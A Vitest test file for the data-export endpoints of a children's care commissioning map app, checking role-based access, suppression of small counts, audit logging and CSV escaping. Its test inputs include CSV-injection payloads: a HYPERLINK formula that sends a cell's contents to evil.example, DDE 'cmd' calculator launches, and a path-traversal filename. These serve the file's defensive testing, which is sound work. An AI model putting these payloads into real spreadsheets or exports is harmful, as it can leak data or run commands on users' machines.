import path from 'node:path';
import type { FeatureCollection } from 'geojson';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as Y from 'yjs';
import { GET as exportFile } from '../../src/routes/api/rccs/[id=rcc]/export/[file]/+server';
import { GET as summaryOf } from '../../src/routes/api/rccs/[id=rcc]/summary/+server';
import { GET as hotspotsOf } from '../../src/routes/api/rccs/[id=rcc]/hotspots.geojson/+server';
import { GET as gapsOf } from '../../src/routes/api/rccs/[id=rcc]/gaps.json/+server';
import type { CurrentUser, RccSummary } from '../../src/lib/domain/types';
import { migrate, readMigrations } from '../../src/lib/server/db/migrate';
import * as audit from '../../src/lib/server/audit';
import { exportLayerNames } from '../../src/lib/server/export/export-layers';
import { leaks, type ReaderView } from '../support/disclosure-attacker';
import { ADMIN, commissionerOf, insertFixture, LA, OUTSIDER, VIEWER } from './api-fixture';
import { addAccount } from './helpers/accounts';
import { backends, createTestDatabase, type TestDatabase } from './helpers/databases';

type Handler = (event: never) => Response | Promise<Response>;
type Row = Record<string, string>;

/**
 * Hostile text a workshop participant could type into a note or a scenario's name: each would run in a
 * spreadsheet if written as is (OWASP "CSV injection"), the last after a line break papaparse's own
 * pattern misses.
 */
const HOSTILE = [
	'=HYPERLINK("http://evil.example/?"&A1,"Click")',
	'+1+cmd|" /C calc"!A0',
	'-2+3',
	'@SUM(A1:A9)',
	'\t=1+1',
	'\r=1+1',
	'=1+1\nsecond line',
	'\uFF1D1+1'
];

/**
 * The map document of RCC `tst` as a workshop leaves it: one good scenario of two proposals (and a
 * proposal of a million places, one outside England, one of the wrong shape, all left out), hostile
 * text in notes, an area, and entries of the wrong types, which the export leaves out.
 */
function workshopDoc(): Uint8Array {
	const doc = new Y.Doc();
	const scenarios = doc.getMap('scenarios');
	const scenario = new Y.Map<unknown>();
	scenario.set('name', '=cmd|" /C calc"!A0');
	scenario.set('createdBy', { name: 'Commissioner of Alpha', laCode: LA.A });
	scenario.set('createdAt', '2026-12-04T10:00:00.000Z');
	const proposals = new Y.Array<unknown>();
	proposals.push([
		{
			action: 'add',
			id: 'p1',
			kind: 'childrens_home',
			location: [-2.2, 53.2],
			places: 4,
			ageMin: 11,
			ageMax: 17,
			needs: ['\t=1+1', 'emotional']
		},
		{ action: 'remove', urn: 'SC000002' },
		{ action: 'add', id: 'huge', kind: 'childrens_home', location: [-2.2, 53.2], places: 1_000_000 },
		{ action: 'add', id: 'paris', kind: 'childrens_home', location: [2.35, 48.85], places: 2 },
		{ action: 'add', id: 'bad', kind: 'castle', location: 'here', places: 'many' }
	]);
	scenario.set('proposals', proposals);
	scenarios.set('s1', scenario);
	scenarios.set('broken', 'not a scenario');
	const notes = doc.getMap('notes');
	HOSTILE.forEach((text, i) =>
		notes.set(`n${i}`, {
			location: [-2.25, 53.25],
			text,
			by: { name: i === 0 ? '@admin' : 'Viewer', laCode: null },
			createdAt: '2026-12-04T10:00:00.000Z',
			resolved: false
		})
	);
	notes.set('far', {
		location: [150, -30],
		text: 'Sydney',
		by: { name: 'x', laCode: null },
		createdAt: '2026-12-04T10:00:00.000Z',
		resolved: false
	});
	notes.set('wrong', { location: [-2.25, 53.25], text: 42, by: null, createdAt: 'never' });
	doc.getMap('areas').set('a1', {
		type: 'Feature',
		properties: {
			name: 'Search area',
			by: { name: 'Administrator', laCode: null },
			createdAt: '2026-12-04T10:00:00.000Z'
		},
		geometry: {
			type: 'Polygon',
			coordinates: [
				[
					[-2.3, 53.1],
					[-2.1, 53.1],
					[-2.1, 53.3],
					[-2.3, 53.1]
				]
			]
		}
	});
	doc.getMap('areas').set('nowhere', { type: 'Feature', geometry: { type: 'Point', coordinates: [0, 0] } });
	return Y.encodeStateAsUpdate(doc);
}

describe.each(backends)('GET /api/rccs/:id/export/<layer>.{csv,geojson} on %s', (backend) => {
	let test: TestDatabase;
	const people: Record<'commissionerA' | 'commissionerB' | 'viewer' | 'admin' | 'outsider', CurrentUser> =
		{} as never;

	async function call(
		handler: Handler,
		pathname: string,
		params: Record<string, string>,
		user: CurrentUser | null
	) {
		const event = {
			params,
			url: new URL(`http://localhost${pathname}`),
			request: new Request(`http://localhost${pathname}`),
			locals: { runtime: { db: test.db, config: {} }, user }
		};
		return handler(event as never);
	}
	const download = (rccId: string, file: string, user: CurrentUser | null) =>
		call(exportFile, `/api/rccs/${rccId}/export/${file}`, { id: rccId, file }, user);

	async function csv(rccId: string, layer: string, user: CurrentUser) {
		const response = await download(rccId, `${layer}.csv`, user);
		expect(response.status).toBe(200);
		expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
		expect(response.headers.get('cache-control')).toBe('private, no-store');
		expect(response.headers.get('content-disposition')).toBe(`attachment; filename="${rccId}-${layer}.csv"`);
		const text = await response.text();
		const parsed = Papa.parse<Row>(text, { header: true, skipEmptyLines: true });
		expect(parsed.errors).toEqual([]);
		return { text, rows: parsed.data, columns: parsed.meta.fields ?? [] };
	}
	async function geojson(rccId: string, layer: string, user: CurrentUser) {
		const response = await download(rccId, `${layer}.geojson`, user);
		expect(response.status).toBe(200);
		expect(response.headers.get('content-type')).toBe('application/geo+json');
		expect(response.headers.get('cache-control')).toBe('private, no-store');
		expect(response.headers.get('content-disposition')).toBe(
			`attachment; filename="${rccId}-${layer}.geojson"`
		);
		const body = (await response.json()) as FeatureCollection;
		expect(body.type).toBe('FeatureCollection');
		return body.features;
	}

	beforeAll(async () => {
		test = await createTestDatabase(backend);
		await migrate(test.db, readMigrations(path.resolve('migrations')));
		await insertFixture(test.db.sql);
		const account = async (user: CurrentUser) => ({
			...user,
			id: await addAccount(
				test.db.sql,
				user.email,
				user.roles.map((grant) => ({
					rccId: grant.rccId,
					role: grant.role,
					laCode: grant.laCode ?? undefined
				}))
			)
		});
		people.commissionerA = await account(commissionerOf(LA.A, 'Alpha'));
		people.commissionerB = await account(commissionerOf(LA.B, 'Beta'));
		people.viewer = await account(VIEWER);
		people.admin = await account(ADMIN);
		people.outsider = await account(OUTSIDER);
		await test.db
			.sql`insert into collab_updates (doc, update) values ('map:tst', ${Buffer.from(workshopDoc())})`;
	}, 60_000);
	afterAll(() => test?.drop());

	/**
	 * Every layer x format x role: the status each receives. Child-level records only to a commissioner
	 * of their own LA; an RCC without a role is 404 as everywhere, and nobody signed in 401.
	 */
	const STATUS: Record<string, Record<string, number>> = {
		las: { commissionerA: 200, commissionerB: 200, viewer: 200, admin: 200, outsider: 404 },
		fostering: { commissionerA: 200, commissionerB: 200, viewer: 200, admin: 200, outsider: 404 },
		homes: { commissionerA: 200, commissionerB: 200, viewer: 200, admin: 200, outsider: 404 },
		hotspots: { commissionerA: 200, commissionerB: 200, viewer: 200, admin: 200, outsider: 404 },
		gaps: { commissionerA: 200, commissionerB: 200, viewer: 200, admin: 200, outsider: 404 },
		placements: { commissionerA: 200, commissionerB: 200, viewer: 403, admin: 403, outsider: 404 },
		scenarios: { commissionerA: 200, commissionerB: 200, viewer: 200, admin: 200, outsider: 404 },
		notes: { commissionerA: 200, commissionerB: 200, viewer: 200, admin: 200, outsider: 404 },
		areas: { commissionerA: 200, commissionerB: 200, viewer: 200, admin: 200, outsider: 404 }
	};

	it('the matrix covers every layer the API serves', () => {
		expect(Object.keys(STATUS).sort()).toEqual([...exportLayerNames].sort());
	});

	for (const layer of Object.keys(STATUS))
		for (const format of ['csv', 'geojson'])
			it(`${layer}.${format}: each role's status, anonymous 401`, async () => {
				const statuses: Record<string, number> = {};
				for (const [who, user] of Object.entries(people)) {
					const response = await download('tst', `${layer}.${format}`, user);
					statuses[who] = response.status;
					expect(response.headers.get('cache-control') ?? 'private, no-store').toBe('private, no-store');
					await response.body?.cancel();
				}
				expect(statuses).toEqual(STATUS[layer]);
				expect((await download('tst', `${layer}.${format}`, null)).status).toBe(401);
			});

	it('answers 404 for a layer or format it does not serve, and for an RCC that does not exist', async () => {
		for (const file of ['children.csv', 'las.xlsx', 'las', 'LAS.CSV', '..%2Fsummary.csv', 'constructor.csv'])
			expect((await download('tst', file, people.admin)).status).toBe(404);
		expect((await download('nowhere', 'las.csv', people.admin)).status).toBe(404);
	});

	it('England: aggregates only, no gaps, placements nor workshop', async () => {
		expect((await download('england', 'las.csv', people.viewer)).status).toBe(200);
		expect((await download('england', 'hotspots.geojson', people.viewer)).status).toBe(200);
		expect((await download('england', 'homes.csv', people.viewer)).status).toBe(403);
		expect((await download('england', 'gaps.csv', people.viewer)).status).toBe(404);
		expect((await download('england', 'placements.csv', people.commissionerA)).status).toBe(403);
		expect((await download('england', 'scenarios.geojson', people.commissionerA)).status).toBe(404);
	});

	it('las: the summary each reader gets, suppressed alike, in both formats', async () => {
		for (const user of Object.values(people).filter((person) => person !== people.outsider)) {
			const summary = (await (
				await call(summaryOf, '/api/rccs/tst/summary', { id: 'tst' }, user)
			).json()) as RccSummary;
			const { rows } = await csv('tst', 'las', user);
			const features = await geojson('tst', 'las', user);
			const areas = [...summary.las, summary.region];
			expect(rows.map((row) => row.code)).toEqual(areas.map((area) => area.code));
			expect(features.map((feature) => feature.properties!.code)).toEqual(areas.map((area) => area.code));
			areas.forEach((area, i) => {
				for (const name of [
					'childrenLookedAfter',
					'percentOutsideLa',
					'percentOver20Miles',
					'homes'
				] as const) {
					const figure = area[name];
					const expected = figure.suppressed
						? 'withheld'
						: figure.computed === null
							? ''
							: String(figure.computed);
					expect(rows[i][name], `${area.code} ${name}`).toBe(expected);
					expect(features[i].properties![name]).toBe(figure.suppressed ? null : figure.computed);
					if (figure.suppressed) expect(features[i].properties!.withheld).toContain(name);
				}
			});
			// LAs have their outline; the region's total has no place of its own.
			expect(features.slice(0, -1).every((feature) => feature.geometry?.type === 'Polygon')).toBe(true);
			expect(features.at(-1)!.geometry).toBeNull();
		}
	});

	it("las: no reader can work out another LA's 1-4 children from the export (the disclosure attacker)", async () => {
		// Beta looks after 4 children (a small number), Alpha 6; the region 10.
		const truth = [6, 4, 10];
		for (const [user, known] of [
			[people.viewer, [null, null, null]],
			[people.admin, [null, null, null]],
			[people.commissionerA, [6, null, null]],
			[people.commissionerB, [null, 4, null]]
		] as const) {
			const { rows } = await csv('tst', 'las', user);
			const shown = rows.map((row) =>
				row.childrenLookedAfter === 'withheld' ? null : Number(row.childrenLookedAfter)
			);
			const view: ReaderView = {
				shown,
				relations: [
					[
						[2, 1],
						[0, -1],
						[1, -1]
					]
				]
			};
			expect(leaks(view, truth, 30, known), user.email).toEqual([]);
			// A commissioner sees their own LA in full.
			if (known[0] !== null) expect(shown[0]).toBe(6);
			if (known[1] !== null) expect(shown[1]).toBe(4);
		}
	});

	it('hotspots and gaps: exactly what the map layers publish to each reader', async () => {
		for (const user of [people.viewer, people.commissionerA, people.commissionerB]) {
			const map = (await (
				await call(hotspotsOf, '/api/rccs/tst/hotspots.geojson', { id: 'tst' }, user)
			).json()) as FeatureCollection;
			const features = await geojson('tst', 'hotspots', user);
			expect(features.map((f) => f.properties)).toEqual(
				map.features.map((f) => ({
					...f.properties,
					...(f.properties!.over20Miles === null ? { withheld: ['over20Miles'] } : {})
				}))
			);
			expect(features.map((f) => f.geometry)).toEqual(map.features.map((f) => f.geometry));
			const { rows } = await csv('tst', 'hotspots', user);
			expect(rows.map((row) => row.h3)).toEqual(map.features.map((f) => f.properties!.h3));
			// No cell of fewer than 5 children leaves, and a withheld count says so; a viewer holds no
			// LA's records, so no 1-4 reaches them (a commissioner may see their own LA's cell in full).
			for (const row of rows) {
				expect(Number(row.children)).toBeGreaterThanOrEqual(5);
				if (user === people.viewer) expect(row.over20Miles).not.toMatch(/^[1-4]$/);
			}

			const gaps = (await (await call(gapsOf, '/api/rccs/tst/gaps.json', { id: 'tst' }, user)).json()) as {
				cells: { cell: string; children: number; ownChildren?: number }[];
			};
			const gapRows = (await csv('tst', 'gaps', user)).rows;
			expect(gapRows.map((row) => [row.h3, Number(row.children)])).toEqual(
				gaps.cells.map((cell) => [cell.cell, cell.children])
			);
			for (const row of gapRows) expect(Number(row.children)).toBeGreaterThanOrEqual(5);
		}
	});

	it("placements: a commissioner's own LA's children and no one else's", async () => {
		const { rows, columns } = await csv('tst', 'placements', people.commissionerA);
		// a5's placement is not known: no line, as on the map.
		expect(rows.map((row) => row.childId).sort()).toEqual(['a1', 'a2', 'a3', 'a4', 'a6']);
		expect(new Set(rows.map((row) => row.laCode))).toEqual(new Set([LA.A]));
		expect(columns).toContain('homeLon');
		const features = await geojson('tst', 'placements', people.commissionerA);
		expect(features.every((f) => f.geometry?.type === 'LineString')).toBe(true);
		expect(
			(await csv('tst', 'placements', people.commissionerB)).rows.map((row) => row.childId).sort()
		).toEqual(['b1', 'b2', 'b3', 'b4']);
		const refused = await download('tst', 'placements.csv', people.viewer);
		expect(await refused.json()).toEqual({
			message: "Child-level records are exported to the commissioners of the children's own LA only."
		});
	});

	it('homes: the RCC members’ homes, coordinates rounded', async () => {
		const { rows } = await csv('tst', 'homes', people.viewer);
		expect(rows.map((row) => row.urn)).toEqual(['SC000001', 'SC000002', 'SC000003']);
		const features = await geojson('tst', 'homes', people.viewer);
		expect(features[0].geometry).toEqual({ type: 'Point', coordinates: [-2.3, 53.3] });
	});

	it('fostering: members and neighbours with capacity per 10,000 children', async () => {
		const { rows } = await csv('tst', 'fostering', people.viewer);
		const alpha = rows.find((row) => row.code === LA.A)!;
		expect(alpha).toMatchObject({ member: 'true', fosteringPlaces: '15', fosteringPlacesPer10k: '15' });
		expect(rows.find((row) => row.code === LA.C)).toMatchObject({ member: 'false', fosteringPlaces: '8' });
	});

	it('scenarios, notes and areas: the workshop document, bad entries left out', async () => {
		const scenarios = await csv('tst', 'scenarios', people.viewer);
		expect(
			scenarios.rows.map((row) => [row.scenarioId, row.action, row.proposalId, row.urn, row.places])
		).toEqual([
			['s1', 'add', 'p1', '', '4'],
			['s1', 'remove', '', 'SC000002', '']
		]);
		expect(scenarios.rows[0]).toMatchObject({
			createdByName: 'Commissioner of Alpha',
			createdByLaCode: LA.A,
			createdAt: '2026-12-04T10:00:00.000Z',
			needs: "'\t=1+1; emotional",
			lon: '-2.2',
			lat: '53.2'
		});
		const scenarioFeatures = await geojson('tst', 'scenarios', people.viewer);
		expect(scenarioFeatures.map((f) => f.geometry)).toEqual([
			{ type: 'Point', coordinates: [-2.2, 53.2] },
			null
		]);

		const notes = await geojson('tst', 'notes', people.viewer);
		expect(notes.map((f) => f.properties!.id).sort()).toEqual(HOSTILE.map((_, i) => `n${i}`));
		// GeoJSON carries the text as the map reads it (trimmed), unescaped: it is data, not a spreadsheet.
		expect(notes.map((f) => f.properties!.text).sort()).toEqual(HOSTILE.map((text) => text.trim()).sort());

		const areas = await geojson('tst', 'areas', people.commissionerB);
		expect(areas.map((f) => [f.properties!.id, f.properties!.name, f.geometry?.type])).toEqual([
			['a1', 'Search area', 'Polygon']
		]);
	});

	it('neutralises every CSV cell a spreadsheet would run as a formula', async () => {
		const { rows, text } = await csv('tst', 'notes', people.viewer);
		expect(rows.map((row) => row.text).sort()).toEqual(HOSTILE.map((value) => `'${value.trim()}`).sort());
		expect(rows.find((row) => row.id === 'n0')!.byName).toBe("'@admin");
		// No cell of the file starts with a formula character, quoted or not, but for negative numbers.
		for (const line of text.split('\r\n'))
			expect(line).not.toMatch(/(^|,)"?(?!-\d+(\.\d+)?(,|$))[=+\-@\t\r\uFF1D]/);
		const scenarios = await csv('tst', 'scenarios', people.viewer);
		expect(scenarios.rows[0].scenarioName).toBe('\'=cmd|" /C calc"!A0');
		// Numbers stay numbers, a negative longitude included.
		expect(scenarios.rows[0].lon).toBe('-2.2');
	});

	it('writes each export to the audit log: who, layer, format, row count', async () => {
		await csv('tst', 'homes', people.commissionerB);
		await geojson('tst', 'placements', people.commissionerB);
		const entries = await audit.query(test.db.sql, {
			rccId: 'tst',
			action: 'export',
			actor: people.commissionerB.email
		});
		expect(entries.slice(0, 2).map((entry) => [entry.actorId, entry.subject, entry.details])).toEqual([
			[people.commissionerB.id, 'placements.geojson', { layer: 'placements', format: 'geojson', rows: 4 }],
			[people.commissionerB.id, 'homes.csv', { layer: 'homes', format: 'csv', rows: 3 }]
		]);
		// A refused export is not an export.
		const before = (
			await audit.query(test.db.sql, { action: 'export', actor: people.viewer.email, limit: 1000 })
		).length;
		await download('tst', 'placements.csv', people.viewer);
		await download('other', 'las.csv', people.viewer);
		expect(
			(await audit.query(test.db.sql, { action: 'export', actor: people.viewer.email, limit: 1000 })).length
		).toBe(before);
	});
});
